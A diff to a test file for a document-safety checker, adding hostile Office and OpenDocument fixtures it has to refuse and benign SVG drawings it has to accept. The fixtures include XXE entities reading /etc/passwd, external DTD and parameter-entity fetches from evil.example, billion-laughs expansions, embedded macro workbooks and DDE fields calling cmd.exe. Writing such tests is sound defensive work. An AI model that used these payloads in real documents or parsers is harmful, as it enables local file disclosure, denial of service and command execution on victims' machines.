@@ -32,6 +32,9 @@ def field(*instructions: str) -> str:
 
 XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
 LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
+DRAWN = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{}Graphics/SVG/1.1/DTD/svg11.dtd"{}><svg xmlns="&n;"/>'
+SPACES = ' [<!ENTITY n "http://www.w3.org/2000/svg"><!ENTITY x "http://www.w3.org/1999/xlink">]'
+DRAWING = DRAWN.format("http://www.w3.org/", SPACES)
 REMOTE = "http://evil.example/x"
 SETTINGS = "word/_rels/settings.xml.rels"
 HOSTILE = {
@@ -57,6 +60,14 @@ HOSTILE = {
     "a macro sheet in the types": (
         "xlsx",
         {"[Content_Types].xml": files.types("xlsx", "application/vnd.ms-excel.intlmacrosheet+xml")},
+        MACROS,
+    ),
+    "macros in an embedded binary workbook": (
+        "docx",
+        {
+            "[Content_Types].xml": files.types("docx", "application/vnd.ms-excel.sheet.binary.macroEnabled.12"),
+            "word/embeddings/a.xlsb": office("xlsx", {"xl/vbaProject.bin": "x"}),
+        },
         MACROS,
     ),
     "macros in the embedded": ("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": "x"})}, MACROS),
@@ -85,6 +96,36 @@ HOSTILE = {
     "an entity in a drawing": ("docx", {"word/vmlDrawing1.vml": XXE}, ENTITIES),
     "a billion laughs": ("docx", {"word/document.xml": LAUGHS}, ENTITIES),
     "a document type alone": ("docx", {"word/a.xml": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'}, ENTITIES),
+    "a drawing's type from elsewhere": (
+        "docx",
+        {"word/media/a.svg": DRAWN.format("http://evil.example/", "")},
+        ENTITIES,
+    ),
+    "a drawing that fetches an entity": (
+        "docx",
+        {"word/media/a.svg": DRAWING.replace('"http://www.w3.org/2000/svg"', 'SYSTEM "file:///etc/passwd"')},
+        ENTITIES,
+    ),
+    "a drawing that fetches its declarations": (
+        "docx",
+        {"word/media/a.svg": DRAWING.replace("[", '[<!ENTITY % p SYSTEM "http://evil.example/p">%p;')},
+        ENTITIES,
+    ),
+    "a drawing that laughs": ("docx", {"word/media/a.svg": DRAWING.replace("1999/xlink", "&n;&n;")}, ENTITIES),
+    "a drawing with a long laugh": ("docx", {"word/media/a.svg": DRAWING.replace("2000", "ha" * 99)}, ENTITIES),
+    "a DDE field through a drawing's entity": (
+        "docx",
+        {
+            "word/document.xml": DRAWING.partition("<svg")[0].replace("http://www.w3.org/2000/svg", "DDE")
+            + field("&n; c")
+        },
+        DDE,
+    ),
+    "a UTF-16 part that says UTF-8": (
+        "docx",
+        {SETTINGS: ('<?xml version="1.0" encoding="utf-8"?>' + relation("image", REMOTE)).encode("utf-16-le")},
+        FETCHES,
+    ),
     "a DDE field": ("docx", {"word/document.xml": field(" DDEAUTO c:\\\\windows\\\\cmd.exe")}, DDE),
     "a DDE field in pieces": ("docx", {"word/header1.xml": field(" D", "DE", "AUTO cmd")}, DDE),
     "a simple DDE field": (
@@ -125,6 +166,12 @@ HOSTILE = {
         "programfil",
     ),
     "not well formed": ("docx", {"word/document.xml": "<document>"}, "skadad"),
+    "a coding that there is none of": (
+        "docx",
+        {"word/document.xml": '<?xml version="1.0" encoding="x"?><d/>'},
+        "skadad",
+    ),
+    "a coding of more bytes": ("docx", {"word/document.xml": '<?xml version="1.0" encoding="big5"?><d/>'}, "skadad"),
     "a token without end": ("docx", {"word/document.xml": "<document a='" + "x" * 6_000_000 + "'/>"}, "skadad"),
 }
 
@@ -163,6 +210,13 @@ OPEN_HOSTILE = {
         ENTITIES,
     ),
     "a password": ({"META-INF/manifest.xml": '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>'}, LOCKED),
+    "a password, told after what it hides": (
+        {
+            "content.xml": b"\x8f\x01",
+            "META-INF/manifest.xml": '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>',
+        },
+        LOCKED,
+    ),
     "an embedded macro": ({"Object 1": office("docx", {"word/vbaProject.bin": "x"})}, MACROS),
 }
 
@@ -173,6 +227,7 @@ def test_a_hostile_open_document_is_refused(case: str) -> None:
     assert reason in told("a.odt", opened("odt", parts))
 
 
+BINARY = '<Types><Override ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'
 TAKEN = {
     "hyperlinks": ("docx", {"word/_rels/document.xml.rels": relation("hyperlink", "https://ekvik.example/")}),
     "a hyperlink to a share": (
@@ -201,6 +256,19 @@ TAKEN = {
     "folders": ("docx", {"word/": "", "word/media/": ""}),
     "backslashes for slashes": ("docx", {"word\\a.xml": "<a/>"}),
     "a UTF-16 part": ("docx", {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}),
+    "a UTF-16 part that says UTF-8": (
+        "xlsx",
+        {"xl/customProperty1.bin": '<?xml version="1.0" encoding="utf-8"?><ACCT id="1"/>'.encode("utf-16-le")},
+    ),
+    "a drawing of Inkscape's": ("docx", {"word/media/a.svg": DRAWN.format("http://www.w3.org/", "")}),
+    "a drawing of Illustrator's": ("docx", {"word/media/a.svg": DRAWING}),
+    "an embedded binary workbook": (
+        "docx",
+        {
+            "[Content_Types].xml": files.types("docx", "application/vnd.ms-excel.sheet.binary.macroEnabled.12"),
+            "word/embeddings/a.xlsb": office("xlsx", {"[Content_Types].xml": BINARY}),
+        },
+    ),
     "types by extension": (
         "docx",
         {"[Content_Types].xml": f'<Types><Default Extension="xml" ContentType="{files.MAIN["docx"][1]}"/></Types>'},
@@ -224,6 +292,7 @@ OPEN_TAKEN = {
         "Basic/Standard/script-lb.xml": "<l/>",
         "Dialogs/dialog-lc.xml": "<l/>",
     },
+    "a drawing of Illustrator's": {"Pictures/1.svg": DRAWING},
     "OpenOffice's own document type": {
         "META-INF/manifest.xml": '<!DOCTYPE m PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><m/>'
     },
@@ -262,6 +331,7 @@ def test_an_old_format_says_what_to_do() -> None:
         ("../a b.dotx", False),
         ("file:///C:/mallar/a.dotx", False),
         ("file://C:/mallar/a.dotx", False),
+        ("file:////C:\\mallar\\a.dotx", False),
         ("file://localhost/a", False),
         ("file:///home/a/b.ott", False),
         ("C:\\mallar\\a.dotx", False),
